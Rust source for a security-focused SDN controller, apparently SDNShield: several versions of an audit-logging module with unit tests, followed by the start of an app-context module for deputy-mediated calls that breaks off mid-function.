        let deadline = std::time::Instant::now() + Duration::from_secs(5);
        while !log.shared.ring.is_empty() {
            assert!(
                std::time::Instant::now() < deadline,
                "drainer never swept the ring"
            );
            std::thread::yield_now();
        }
        assert_eq!(log.shared.next_seq.load(Ordering::SeqCst), 1);
    }

    #[test]
    fn concurrent_appends_keep_sequences_unique_and_complete() {
        use std::sync::Arc;
        let log = Arc::new(AuditLog::default());
        let threads = 8;
        let per_thread = 500u64;
        std::thread::scope(|s| {
            for t in 0..threads {
                let log = Arc::clone(&log);
                s.spawn(move || {
                    for i in 0..per_thread {
                        log.record(
                            AppId(t as u16),
                            &format!("op{i}"),
                            PermissionToken::ReadStatistics,
                            AuditOutcome::Allowed,
                        );
                    }
                });
            }
        });
        let recs = log.records();
        assert_eq!(recs.len(), (threads as u64 * per_thread) as usize);
        // Sorted, unique, gap-free sequence numbers.
        for (i, r) in recs.iter().enumerate() {
            assert_eq!(r.seq, i as u64 + 1);
        }
    }
}
