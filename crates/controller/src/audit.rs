//! Activity logging for forensic analysis (paper §VII scenario 2: "the
//! SDNShield can provide activity logging, which enables forensic analysis
//! after the attack happens").

use std::fmt;

use sdnshield_core::api::AppId;
use sdnshield_core::token::PermissionToken;

/// The recorded outcome of a mediated call.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AuditOutcome {
    /// The call was allowed and executed.
    Allowed,
    /// The call was denied by the permission engine.
    Denied,
    /// The call was allowed but the operation failed (e.g. table full).
    Failed,
    /// The app crashed and was reaped by the supervisor.
    Crashed,
    /// An event addressed to the app was shed under overload (or discarded
    /// while reaping a crash) before the app saw it.
    Dropped,
}

/// One audit record.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AuditRecord {
    /// Monotonic sequence number.
    pub seq: u64,
    /// The calling app.
    pub app: AppId,
    /// The operation name.
    pub operation: String,
    /// The token the call required. `None` for supervisor records (crash /
    /// overload shedding), which are not permission-mediated calls.
    pub token: Option<PermissionToken>,
    /// The outcome.
    pub outcome: AuditOutcome,
}

impl fmt::Display for AuditRecord {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match &self.token {
            Some(token) => write!(
                f,
                "#{} {} {} [{}] {:?}",
                self.seq, self.app, self.operation, token, self.outcome
            ),
            None => write!(
                f,
                "#{} {} {} [-] {:?}",
                self.seq, self.app, self.operation, self.outcome
            ),
        }
    }
}

/// An append-only in-memory audit log with bounded retention.
#[derive(Debug)]
pub struct AuditLog {
    records: Vec<AuditRecord>,
    capacity: usize,
    next_seq: u64,
    dropped: u64,
}

impl AuditLog {
    /// A log retaining at most `capacity` recent records.
    pub fn new(capacity: usize) -> Self {
        AuditLog {
            records: Vec::new(),
            capacity,
            next_seq: 0,
            dropped: 0,
        }
    }

    /// Appends a record for a permission-mediated call.
    pub fn record(
        &mut self,
        app: AppId,
        operation: &str,
        token: PermissionToken,
        outcome: AuditOutcome,
    ) {
        self.push(app, operation, Some(token), outcome);
    }

    /// Appends a supervisor record (crash, shed event) with no token.
    pub fn record_system(&mut self, app: AppId, operation: &str, outcome: AuditOutcome) {
        self.push(app, operation, None, outcome);
    }

    fn push(
        &mut self,
        app: AppId,
        operation: &str,
        token: Option<PermissionToken>,
        outcome: AuditOutcome,
    ) {
        self.next_seq += 1;
        if self.records.len() >= self.capacity {
            // Keep the newest half to amortize the shift.
            let keep_from = self.records.len() / 2;
            self.dropped += keep_from as u64;
            self.records.drain(..keep_from);
        }
        self.records.push(AuditRecord {
            seq: self.next_seq,
            app,
            operation: operation.to_owned(),
            token,
            outcome,
        });
    }

    /// All retained records, oldest first.
    pub fn records(&self) -> &[AuditRecord] {
        &self.records
    }

    /// Records for one app.
    pub fn records_by(&self, app: AppId) -> impl Iterator<Item = &AuditRecord> {
        self.records.iter().filter(move |r| r.app == app)
    }

    /// Denied calls for one app — the forensic signal of an attack attempt.
    pub fn denials_by(&self, app: AppId) -> impl Iterator<Item = &AuditRecord> {
        self.records_by(app)
            .filter(|r| r.outcome == AuditOutcome::Denied)
    }

    /// Number of records evicted by retention so far.
    pub fn dropped(&self) -> u64 {
        self.dropped
    }
}

impl Default for AuditLog {
    fn default() -> Self {
        Self::new(65_536)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn records_and_queries() {
        let mut log = AuditLog::new(100);
        log.record(
            AppId(1),
            "insert_flow",
            PermissionToken::InsertFlow,
            AuditOutcome::Allowed,
        );
        log.record(
            AppId(2),
            "host_connect",
            PermissionToken::HostNetwork,
            AuditOutcome::Denied,
        );
        log.record(
            AppId(1),
            "insert_flow",
            PermissionToken::InsertFlow,
            AuditOutcome::Failed,
        );
        assert_eq!(log.records().len(), 3);
        assert_eq!(log.records_by(AppId(1)).count(), 2);
        assert_eq!(log.denials_by(AppId(2)).count(), 1);
        assert_eq!(log.denials_by(AppId(1)).count(), 0);
        assert_eq!(log.records()[0].seq, 1);
    }

    #[test]
    fn retention_evicts_oldest() {
        let mut log = AuditLog::new(4);
        for i in 0..10 {
            log.record(
                AppId(1),
                &format!("op{i}"),
                PermissionToken::ReadStatistics,
                AuditOutcome::Allowed,
            );
        }
        assert!(log.records().len() <= 4);
        assert!(log.dropped() > 0);
        // Sequence numbers keep counting across eviction.
        assert_eq!(log.records().last().unwrap().seq, 10);
    }

    #[test]
    fn dropped_counter_is_exact() {
        let mut log = AuditLog::new(4);
        for i in 0..4 {
            log.record(
                AppId(1),
                &format!("op{i}"),
                PermissionToken::ReadStatistics,
                AuditOutcome::Allowed,
            );
        }
        assert_eq!(log.dropped(), 0, "no eviction until capacity is exceeded");

        // The 5th record triggers one eviction of the oldest half (2 records).
        log.record(
            AppId(1),
            "op4",
            PermissionToken::ReadStatistics,
            AuditOutcome::Allowed,
        );
        assert_eq!(log.dropped(), 2);
        assert_eq!(log.records().len(), 3);
        assert_eq!(log.records().first().unwrap().seq, 3, "oldest half gone");

        // Nothing retained is ever double-counted: retained + dropped = seen.
        log.record(
            AppId(1),
            "op5",
            PermissionToken::ReadStatistics,
            AuditOutcome::Allowed,
        );
        assert_eq!(log.records().len() as u64 + log.dropped(), 6);
    }

    #[test]
    fn system_records_have_no_token() {
        let mut log = AuditLog::new(10);
        log.record_system(AppId(7), "crash:on_event", AuditOutcome::Crashed);
        log.record_system(AppId(7), "event_shed", AuditOutcome::Dropped);
        let recs: Vec<_> = log.records_by(AppId(7)).collect();
        assert_eq!(recs.len(), 2);
        assert!(recs.iter().all(|r| r.token.is_none()));
        assert_eq!(recs[0].outcome, AuditOutcome::Crashed);
        assert!(recs[0].to_string().contains("[-]"));
    }
}
