//! Activity logging for forensic analysis (paper §VII scenario 2: "the
//! SDNShield can provide activity logging, which enables forensic analysis
//! after the attack happens").
//!
//! # Concurrency
//!
//! The log is internally segmented so concurrent deputies appending records
//! never serialize on one lock: a sequence number is allocated from an
//! atomic counter and the record lands in segment `seq % N`, each segment
//! behind its own mutex. Appends therefore take `&self` and contend only
//! 1/N of the time. Readers use [`AuditLog::records_since`] as an
//! incremental cursor instead of cloning the whole log: it returns the
//! *contiguous* run of records after the cursor, so a record whose append
//! is still in flight (sequence allocated, segment push pending) is never
//! skipped — it is simply returned by a later call.

use std::fmt;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};

use parking_lot::Mutex;
use sdnshield_core::api::AppId;
use sdnshield_core::token::PermissionToken;

/// The recorded outcome of a mediated call.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AuditOutcome {
    /// The call was allowed and executed.
    Allowed,
    /// The call was denied by the permission engine.
    Denied,
    /// The call was allowed but the operation failed (e.g. table full).
    Failed,
    /// The app crashed and was reaped by the supervisor.
    Crashed,
    /// An event addressed to the app was shed under overload (or discarded
    /// while reaping a crash) before the app saw it.
    Dropped,
}

/// One audit record.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AuditRecord {
    /// Monotonic sequence number.
    pub seq: u64,
    /// The calling app.
    pub app: AppId,
    /// The operation name.
    pub operation: String,
    /// The token the call required. `None` for supervisor records (crash /
    /// overload shedding), which are not permission-mediated calls.
    pub token: Option<PermissionToken>,
    /// The outcome.
    pub outcome: AuditOutcome,
}

impl fmt::Display for AuditRecord {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match &self.token {
            Some(token) => write!(
                f,
                "#{} {} {} [{}] {:?}",
                self.seq, self.app, self.operation, token, self.outcome
            ),
            None => write!(
                f,
                "#{} {} {} [-] {:?}",
                self.seq, self.app, self.operation, self.outcome
            ),
        }
    }
}

/// Records per segment that justify splitting the log; below this a single
/// segment keeps small logs' retention behavior simple and exact.
const SEGMENT_TARGET: usize = 8_192;
/// Upper bound on segments (append shards).
const MAX_SEGMENTS: usize = 8;

#[derive(Default)]
struct Segment {
    records: Vec<AuditRecord>,
    dropped: u64,
}

/// An append-only, internally synchronized audit log with bounded retention.
///
/// Appends take `&self`; multiple deputy threads write concurrently.
pub struct AuditLog {
    segments: Vec<Mutex<Segment>>,
    per_segment_capacity: usize,
    capacity: usize,
    /// Last allocated sequence number (records are 1-based).
    next_seq: AtomicU64,
    /// Highest sequence number evicted by retention; readers report only
    /// records beyond this floor.
    evicted_through: AtomicU64,
    /// Admission gate: when `false` no record is admitted (and callers using
    /// the `_with` constructors never build their detail strings).
    enabled: AtomicBool,
}

impl fmt::Debug for AuditLog {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("AuditLog")
            .field("capacity", &self.capacity)
            .field("segments", &self.segments.len())
            .field("seen", &self.next_seq.load(Ordering::SeqCst))
            .finish_non_exhaustive()
    }
}

impl AuditLog {
    /// A log retaining at most (about) `capacity` recent records.
    pub fn new(capacity: usize) -> Self {
        let num_segments = (capacity / SEGMENT_TARGET).clamp(1, MAX_SEGMENTS);
        AuditLog {
            segments: (0..num_segments)
                .map(|_| Mutex::new(Segment::default()))
                .collect(),
            per_segment_capacity: (capacity / num_segments).max(1),
            capacity,
            next_seq: AtomicU64::new(0),
            evicted_through: AtomicU64::new(0),
            enabled: AtomicBool::new(true),
        }
    }

    /// Turns record admission on or off. Disabling keeps existing records
    /// readable but admits nothing new — and, through
    /// [`AuditLog::record_system_with`], spares callers the cost of
    /// formatting detail strings nobody will retain.
    pub fn set_enabled(&self, enabled: bool) {
        self.enabled.store(enabled, Ordering::SeqCst);
    }

    /// Would a record be admitted right now? Callers building expensive
    /// operation strings should consult this (or use
    /// [`AuditLog::record_system_with`]) before formatting.
    pub fn is_enabled(&self) -> bool {
        self.enabled.load(Ordering::Relaxed)
    }

    /// Appends a record for a permission-mediated call.
    pub fn record(
        &self,
        app: AppId,
        operation: &str,
        token: PermissionToken,
        outcome: AuditOutcome,
    ) {
        self.push(app, operation, Some(token), outcome);
    }

    /// Appends a supervisor record (crash, shed event) with no token.
    pub fn record_system(&self, app: AppId, operation: &str, outcome: AuditOutcome) {
        self.push(app, operation, None, outcome);
    }

    /// Appends a supervisor record whose operation string is built lazily:
    /// the closure runs only when the record will actually be admitted, so
    /// hot paths pay no `format!` allocation while auditing is disabled.
    pub fn record_system_with(
        &self,
        app: AppId,
        operation: impl FnOnce() -> String,
        outcome: AuditOutcome,
    ) {
        if !self.is_enabled() {
            return;
        }
        self.push_owned(app, operation(), None, outcome);
    }

    fn push(
        &self,
        app: AppId,
        operation: &str,
        token: Option<PermissionToken>,
        outcome: AuditOutcome,
    ) {
        if !self.is_enabled() {
            return;
        }
        self.push_owned(app, operation.to_owned(), token, outcome);
    }

    fn push_owned(
        &self,
        app: AppId,
        operation: String,
        token: Option<PermissionToken>,
        outcome: AuditOutcome,
    ) {
        let seq = self.next_seq.fetch_add(1, Ordering::SeqCst) + 1;
        let mut seg = self.segments[(seq as usize - 1) % self.segments.len()].lock();
        if seg.records.len() >= self.per_segment_capacity {
            // Keep the newest half to amortize the shift.
            let keep_from = seg.records.len() / 2;
            if keep_from > 0 {
                seg.dropped += keep_from as u64;
                let floor = seg.records[keep_from - 1].seq;
                seg.records.drain(..keep_from);
                self.evicted_through.fetch_max(floor, Ordering::SeqCst);
            }
        }
        seg.records.push(AuditRecord {
            seq,
            app,
            operation,
            token,
            outcome,
        });
    }

    /// All retained records, oldest first (a snapshot; see
    /// [`AuditLog::records_since`] for incremental reads).
    pub fn records(&self) -> Vec<AuditRecord> {
        self.records_since(0)
    }

    /// Records with sequence number greater than `since`, oldest first —
    /// the incremental-reader path. Returns the contiguous run starting at
    /// the cursor (or at the retention floor, whichever is higher): records
    /// whose append is still in flight on another thread are deferred to a
    /// later call rather than skipped, so a reader that advances its cursor
    /// to the last returned `seq` sees every record exactly once.
    pub fn records_since(&self, since: u64) -> Vec<AuditRecord> {
        let floor = since.max(self.evicted_through.load(Ordering::SeqCst));
        let mut out: Vec<AuditRecord> = Vec::new();
        for seg in &self.segments {
            let seg = seg.lock();
            out.extend(seg.records.iter().filter(|r| r.seq > floor).cloned());
        }
        out.sort_by_key(|r| r.seq);
        // Truncate at the first gap: a missing seq means an append between
        // counter allocation and segment insertion is still in flight.
        let keep = out
            .iter()
            .zip(floor + 1..)
            .take_while(|(r, expected)| r.seq == *expected)
            .count();
        out.truncate(keep);
        out
    }

    /// Records for one app (snapshot).
    pub fn records_by(&self, app: AppId) -> Vec<AuditRecord> {
        self.records()
            .into_iter()
            .filter(|r| r.app == app)
            .collect()
    }

    /// Denied calls for one app — the forensic signal of an attack attempt.
    pub fn denials_by(&self, app: AppId) -> Vec<AuditRecord> {
        self.records_by(app)
            .into_iter()
            .filter(|r| r.outcome == AuditOutcome::Denied)
            .collect()
    }

    /// Number of records evicted by retention so far.
    pub fn dropped(&self) -> u64 {
        self.segments.iter().map(|s| s.lock().dropped).sum()
    }

    /// Total records ever appended (retained or evicted).
    pub fn seen(&self) -> u64 {
        self.next_seq.load(Ordering::SeqCst)
    }

    /// Seeds sequence numbering after recovery: the next appended record
    /// takes `through + 1`, and sequences `..=through` read as evicted (the
    /// pre-crash records themselves are gone, but cursors positioned at or
    /// before `through` resume without observing the gap as data loss).
    pub fn seed(&self, through: u64) {
        self.next_seq.store(through, Ordering::SeqCst);
        self.evicted_through.fetch_max(through, Ordering::SeqCst);
    }
}

impl Default for AuditLog {
    fn default() -> Self {
        Self::new(65_536)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn records_and_queries() {
        let log = AuditLog::new(100);
        log.record(
            AppId(1),
            "insert_flow",
            PermissionToken::InsertFlow,
            AuditOutcome::Allowed,
        );
        log.record(
            AppId(2),
            "host_connect",
            PermissionToken::HostNetwork,
            AuditOutcome::Denied,
        );
        log.record(
            AppId(1),
            "insert_flow",
            PermissionToken::InsertFlow,
            AuditOutcome::Failed,
        );
        assert_eq!(log.records().len(), 3);
        assert_eq!(log.records_by(AppId(1)).len(), 2);
        assert_eq!(log.denials_by(AppId(2)).len(), 1);
        assert_eq!(log.denials_by(AppId(1)).len(), 0);
        assert_eq!(log.records()[0].seq, 1);
    }

    #[test]
    fn retention_evicts_oldest() {
        let log = AuditLog::new(4);
        for i in 0..10 {
            log.record(
                AppId(1),
                &format!("op{i}"),
                PermissionToken::ReadStatistics,
                AuditOutcome::Allowed,
            );
        }
        assert!(log.records().len() <= 4);
        assert!(log.dropped() > 0);
        // Sequence numbers keep counting across eviction.
        assert_eq!(log.records().last().unwrap().seq, 10);
    }

    #[test]
    fn dropped_counter_is_exact() {
        let log = AuditLog::new(4);
        for i in 0..4 {
            log.record(
                AppId(1),
                &format!("op{i}"),
                PermissionToken::ReadStatistics,
                AuditOutcome::Allowed,
            );
        }
        assert_eq!(log.dropped(), 0, "no eviction until capacity is exceeded");

        // The 5th record triggers one eviction of the oldest half (2 records).
        log.record(
            AppId(1),
            "op4",
            PermissionToken::ReadStatistics,
            AuditOutcome::Allowed,
        );
        assert_eq!(log.dropped(), 2);
        assert_eq!(log.records().len(), 3);
        assert_eq!(log.records().first().unwrap().seq, 3, "oldest half gone");

        // Nothing retained is ever double-counted: retained + dropped = seen.
        log.record(
            AppId(1),
            "op5",
            PermissionToken::ReadStatistics,
            AuditOutcome::Allowed,
        );
        assert_eq!(log.records().len() as u64 + log.dropped(), 6);
        assert_eq!(log.seen(), 6);
    }

    #[test]
    fn system_records_have_no_token() {
        let log = AuditLog::new(10);
        log.record_system(AppId(7), "crash:on_event", AuditOutcome::Crashed);
        log.record_system(AppId(7), "event_shed", AuditOutcome::Dropped);
        let recs = log.records_by(AppId(7));
        assert_eq!(recs.len(), 2);
        assert!(recs.iter().all(|r| r.token.is_none()));
        assert_eq!(recs[0].outcome, AuditOutcome::Crashed);
        assert!(recs[0].to_string().contains("[-]"));
    }

    #[test]
    fn records_since_is_an_exactly_once_cursor() {
        let log = AuditLog::new(1024);
        for i in 0..5 {
            log.record(
                AppId(1),
                &format!("op{i}"),
                PermissionToken::ReadStatistics,
                AuditOutcome::Allowed,
            );
        }
        let first = log.records_since(0);
        assert_eq!(first.len(), 5);
        let cursor = first.last().unwrap().seq;
        assert!(log.records_since(cursor).is_empty());
        for i in 5..8 {
            log.record(
                AppId(1),
                &format!("op{i}"),
                PermissionToken::ReadStatistics,
                AuditOutcome::Allowed,
            );
        }
        let next = log.records_since(cursor);
        assert_eq!(
            next.iter().map(|r| r.seq).collect::<Vec<_>>(),
            vec![6, 7, 8]
        );
    }

    #[test]
    fn disabled_log_admits_nothing() {
        let log = AuditLog::new(16);
        log.record(
            AppId(1),
            "insert_flow",
            PermissionToken::InsertFlow,
            AuditOutcome::Allowed,
        );
        log.set_enabled(false);
        log.record(
            AppId(1),
            "insert_flow",
            PermissionToken::InsertFlow,
            AuditOutcome::Allowed,
        );
        log.record_system(AppId(1), "event_shed", AuditOutcome::Dropped);
        assert_eq!(log.records().len(), 1, "only the pre-disable record");
        assert_eq!(log.seen(), 1, "no sequence numbers burned while off");
        log.set_enabled(true);
        log.record_system(AppId(1), "event_shed", AuditOutcome::Dropped);
        assert_eq!(log.records().len(), 2);
    }

    #[test]
    fn record_system_with_skips_formatting_when_disabled() {
        let log = AuditLog::new(16);
        log.set_enabled(false);
        let mut built = false;
        log.record_system_with(
            AppId(3),
            || {
                built = true;
                "crash:on_event".to_owned()
            },
            AuditOutcome::Crashed,
        );
        assert!(!built, "detail string must not be built while disabled");
        log.set_enabled(true);
        log.record_system_with(
            AppId(3),
            || {
                built = true;
                "crash:on_event".to_owned()
            },
            AuditOutcome::Crashed,
        );
        assert!(built);
        assert_eq!(log.records_by(AppId(3)).len(), 1);
        assert_eq!(log.records_by(AppId(3))[0].operation, "crash:on_event");
    }

    #[test]
    fn concurrent_appends_keep_sequences_unique_and_complete() {
        use std::sync::Arc;
        let log = Arc::new(AuditLog::default());
        let threads = 8;
        let per_thread = 500u64;
        std::thread::scope(|s| {
            for t in 0..threads {
                let log = Arc::clone(&log);
                s.spawn(move || {
                    for i in 0..per_thread {
                        log.record(
                            AppId(t as u16),
                            &format!("op{i}"),
                            PermissionToken::ReadStatistics,
                            AuditOutcome::Allowed,
                        );
                    }
                });
            }
        });
        let recs = log.records();
        assert_eq!(recs.len(), (threads as u64 * per_thread) as usize);
        // Sorted, unique, gap-free sequence numbers.
        for (i, r) in recs.iter().enumerate() {
            assert_eq!(r.seq, i as u64 + 1);
        }
    }
}
