//! Activity logging for forensic analysis (paper §VII scenario 2: "the
//! SDNShield can provide activity logging, which enables forensic analysis
//! after the attack happens").

use std::fmt;

use sdnshield_core::api::AppId;
use sdnshield_core::token::PermissionToken;

/// The recorded outcome of a mediated call.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AuditOutcome {
    /// The call was allowed and executed.
    Allowed,
    /// The call was denied by the permission engine.
    Denied,
    /// The call was allowed but the operation failed (e.g. table full).
    Failed,
}

/// One audit record.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AuditRecord {
    /// Monotonic sequence number.
    pub seq: u64,
    /// The calling app.
    pub app: AppId,
    /// The operation name.
    pub operation: String,
    /// The token the call required.
    pub token: PermissionToken,
    /// The outcome.
    pub outcome: AuditOutcome,
}

impl fmt::Display for AuditRecord {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "#{} {} {} [{}] {:?}",
            self.seq, self.app, self.operation, self.token, self.outcome
        )
    }
}

/// An append-only in-memory audit log with bounded retention.
#[derive(Debug)]
pub struct AuditLog {
    records: Vec<AuditRecord>,
    capacity: usize,
    next_seq: u64,
    dropped: u64,
}

impl AuditLog {
    /// A log retaining at most `capacity` recent records.
    pub fn new(capacity: usize) -> Self {
        AuditLog {
            records: Vec::new(),
            capacity,
            next_seq: 0,
            dropped: 0,
        }
    }

    /// Appends a record.
    pub fn record(
        &mut self,
        app: AppId,
        operation: &str,
        token: PermissionToken,
        outcome: AuditOutcome,
    ) {
        self.next_seq += 1;
        if self.records.len() >= self.capacity {
            // Keep the newest half to amortize the shift.
            let keep_from = self.records.len() / 2;
            self.dropped += keep_from as u64;
            self.records.drain(..keep_from);
        }
        self.records.push(AuditRecord {
            seq: self.next_seq,
            app,
            operation: operation.to_owned(),
            token,
            outcome,
        });
    }

    /// All retained records, oldest first.
    pub fn records(&self) -> &[AuditRecord] {
        &self.records
    }

    /// Records for one app.
    pub fn records_by(&self, app: AppId) -> impl Iterator<Item = &AuditRecord> {
        self.records.iter().filter(move |r| r.app == app)
    }

    /// Denied calls for one app — the forensic signal of an attack attempt.
    pub fn denials_by(&self, app: AppId) -> impl Iterator<Item = &AuditRecord> {
        self.records_by(app)
            .filter(|r| r.outcome == AuditOutcome::Denied)
    }

    /// Number of records evicted by retention so far.
    pub fn dropped(&self) -> u64 {
        self.dropped
    }
}

impl Default for AuditLog {
    fn default() -> Self {
        Self::new(65_536)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn records_and_queries() {
        let mut log = AuditLog::new(100);
        log.record(
            AppId(1),
            "insert_flow",
            PermissionToken::InsertFlow,
            AuditOutcome::Allowed,
        );
        log.record(
            AppId(2),
            "host_connect",
            PermissionToken::HostNetwork,
            AuditOutcome::Denied,
        );
        log.record(
            AppId(1),
            "insert_flow",
            PermissionToken::InsertFlow,
            AuditOutcome::Failed,
        );
        assert_eq!(log.records().len(), 3);
        assert_eq!(log.records_by(AppId(1)).count(), 2);
        assert_eq!(log.denials_by(AppId(2)).count(), 1);
        assert_eq!(log.denials_by(AppId(1)).count(), 0);
        assert_eq!(log.records()[0].seq, 1);
    }

    #[test]
    fn retention_evicts_oldest() {
        let mut log = AuditLog::new(4);
        for i in 0..10 {
            log.record(
                AppId(1),
                &format!("op{i}"),
                PermissionToken::ReadStatistics,
                AuditOutcome::Allowed,
            );
        }
        assert!(log.records().len() <= 4);
        assert!(log.dropped() > 0);
        // Sequence numbers keep counting across eviction.
        assert_eq!(log.records().last().unwrap().seq, 10);
    }
}
