//! The app programming model: the [`App`] trait and the [`AppCtx`] handle
//! through which every interaction with the controller flows.
//!
//! In the SDNShield architecture the context marshals each call over an
//! inter-thread channel to a Kernel Service Deputy (paper §VI-A); in the
//! monolithic baseline it calls the kernel directly. Apps are written once
//! and run unmodified under either architecture — mirroring the paper's
//! claim that legacy apps need no changes.

use std::collections::VecDeque;
use std::sync::Arc;
use std::time::Duration;

use bytes::Bytes;
use crossbeam::channel::{bounded, Receiver, RecvTimeoutError, Sender};
use parking_lot::Mutex;

use sdnshield_core::api::{ApiCall, ApiCallKind, AppId, EventKind};
use sdnshield_core::token::PermissionToken;
use sdnshield_openflow::flow_match::FlowMatch;
use sdnshield_openflow::messages::{FlowMod, FlowStats, PacketOut, StatsReply, StatsRequest};
use sdnshield_openflow::types::{BufferId, DatapathId, Ipv4, PortNo};

use crate::api::{ApiError, ApiResponse, DeputyRequest, FlowOp, TopologyView};
use crate::events::Event;
use crate::hostsys::ConnId;
use crate::kernel::{Kernel, OutboundEvent};

/// A controller application.
///
/// Implementations must be `Send`: under the isolation architecture each app
/// runs on its own unprivileged thread.
pub trait App: Send {
    /// The app's name (diagnostics, audit).
    fn name(&self) -> &str;

    /// Tokens the app cannot function without — checked at loading time
    /// (paper §VIII-B). Registration fails if any is missing, so no runtime
    /// checking is spent on an app that could never run.
    fn required_tokens(&self) -> Vec<PermissionToken> {
        Vec::new()
    }

    /// Called once, on the app's thread, after registration.
    fn on_start(&mut self, ctx: &AppCtx) {
        let _ = ctx;
    }

    /// Called for every event the app is subscribed to.
    fn on_event(&mut self, ctx: &AppCtx, event: &Event) {
        let _ = (ctx, event);
    }

    /// Called with the batch of events delivered in one wake-up (vectored
    /// delivery). The default forwards each event to [`App::on_event`] and
    /// returns no batched operations, so existing apps run unchanged.
    ///
    /// Overriders may instead accumulate flow operations across the batch
    /// and return them: the app runtime submits the returned operations
    /// through [`AppCtx::submit_batch`] (one channel crossing, one engine
    /// snapshot, atomic apply) *before* acknowledging the events, so a
    /// synchronous delivery still means "fully processed, including the
    /// batched operations".
    fn on_events(&mut self, ctx: &AppCtx, events: &[&Event]) -> Vec<FlowOp> {
        for event in events {
            self.on_event(ctx, event);
        }
        Vec::new()
    }
}

/// How an [`AppCtx`] reaches the kernel.
#[derive(Clone)]
pub(crate) enum CallRoute {
    /// Through the deputy channel (SDNShield isolation architecture).
    Deputy {
        tx: Sender<DeputyRequest>,
        /// Work counter shared with the controller's quiesce logic.
        inflight: Arc<std::sync::atomic::AtomicUsize>,
        /// Per-call reply deadline: a deputy that dies (or a fault that
        /// swallows the reply) surfaces as [`ApiError::Timeout`] instead of
        /// blocking the app forever.
        timeout: Duration,
        /// App-side read fast path; `None` when disabled by configuration
        /// (every call then crosses the channel).
        fast: Option<Arc<FastLane>>,
    },
    /// Direct invocation (monolithic baseline). Derived events queue up for
    /// the dispatcher loop.
    Direct {
        kernel: Arc<Kernel>,
        pending: Arc<Mutex<VecDeque<OutboundEvent>>>,
    },
}

/// The app-side read fast path (DESIGN.md "Read fast path & vectored
/// delivery"): an epoch-validated engine snapshot that lets the app thread
/// check *and serve* side-effect-free reads with zero channel crossings.
///
/// Soundness rests on three pillars:
///
/// * only call-only permission decisions are made here
///   ([`sdnshield_core::engine::PermissionEngine::check_call_only`] returns
///   `None` for anything stateful, which then rides the deputy), with the
///   kernel's context epoch re-validated around the decision;
/// * only the read-only handler kinds are served
///   ([`Kernel::try_serve_read_with`] rejects everything mutating);
/// * the cached `Arc` engine snapshot is keyed on the kernel's registry
///   epoch, so registration changes force a refetch before the next hit.
pub(crate) struct FastLane {
    cell: Arc<crate::isolation::KernelCell>,
    app: AppId,
    /// Cached engine snapshot, keyed by the (kernel-cell version, registry
    /// epoch) pair it was fetched under — the version term invalidates the
    /// cache across a failover promotion, the epoch term across any
    /// registration change. Only the owning app thread takes this mutex, so
    /// it is uncontended; a `Mutex` (not a `RwLock`) keeps the hot path to
    /// one atomic op.
    #[allow(clippy::type_complexity)]
    snapshot: Mutex<
        Option<(
            u64,
            u64,
            Option<Arc<sdnshield_core::engine::PermissionEngine>>,
        )>,
    >,
    /// Controller-wide hit counter (observability, tests).
    hits: Arc<std::sync::atomic::AtomicU64>,
}

impl FastLane {
    pub(crate) fn new(
        cell: Arc<crate::isolation::KernelCell>,
        app: AppId,
        hits: Arc<std::sync::atomic::AtomicU64>,
    ) -> Self {
        FastLane {
            cell,
            app,
            snapshot: Mutex::new(None),
            hits,
        }
    }

    /// Serves the call on the calling thread if it is fast-path eligible.
    /// `None` means "cross the channel" — never "denied".
    fn try_serve(&self, call: &ApiCall) -> Option<Result<ApiResponse, ApiError>> {
        if !matches!(
            call.kind,
            ApiCallKind::ReadTopology
                | ApiCallKind::ReadFlowTable { .. }
                | ApiCallKind::ReadStatistics { .. }
        ) {
            return None;
        }
        let version = self.cell.version();
        let kernel = self.cell.load();
        let result = if kernel.checks_enabled() {
            let registry_epoch = kernel.registry_epoch();
            let engine = {
                let mut snap = self.snapshot.lock();
                match snap.as_ref() {
                    Some((ver, epoch, engine)) if *ver == version && *epoch == registry_epoch => {
                        engine.clone()
                    }
                    _ => {
                        let engine = kernel.engine_snapshot(self.app);
                        *snap = Some((version, registry_epoch, engine.clone()));
                        engine
                    }
                }
            };
            // Not registered (mid-deregistration race): take the deputy so
            // the error path is uniform with the slow lane.
            let engine = engine?;
            kernel.try_serve_read_with(call, Some(&engine))?
        } else {
            kernel.try_serve_read_with(call, None)?
        };
        self.hits.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        Some(result)
    }
}

/// Sends a deputy request, maintaining the in-flight counter.
fn send_deputy(
    tx: &Sender<DeputyRequest>,
    inflight: &std::sync::atomic::AtomicUsize,
    req: DeputyRequest,
) -> Result<(), ApiError> {
    inflight.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
    tx.send(req).map_err(|_| {
        inflight.fetch_sub(1, std::sync::atomic::Ordering::SeqCst);
        ApiError::Shutdown
    })
}

/// Waits for a deputy reply with a deadline. Disconnection (controller
/// shutting down, or the serving deputy died taking the sender with it)
/// surfaces immediately; silence past the deadline becomes a timeout.
fn await_reply<T>(rx: &Receiver<T>, timeout: Duration) -> Result<T, ApiError> {
    match rx.recv_timeout(timeout) {
        Ok(reply) => Ok(reply),
        Err(RecvTimeoutError::Disconnected) => Err(ApiError::Shutdown),
        Err(RecvTimeoutError::Timeout) => Err(ApiError::Timeout),
    }
}

/// The handle apps use for every controller and host interaction.
#[derive(Clone)]
pub struct AppCtx {
    app: AppId,
    route: CallRoute,
}

impl AppCtx {
    pub(crate) fn new(app: AppId, route: CallRoute) -> Self {
        AppCtx { app, route }
    }

    /// This app's identity.
    pub fn id(&self) -> AppId {
        self.app
    }

    fn call(&self, kind: ApiCallKind) -> Result<ApiResponse, ApiError> {
        let call = ApiCall::new(self.app, kind);
        match &self.route {
            CallRoute::Deputy {
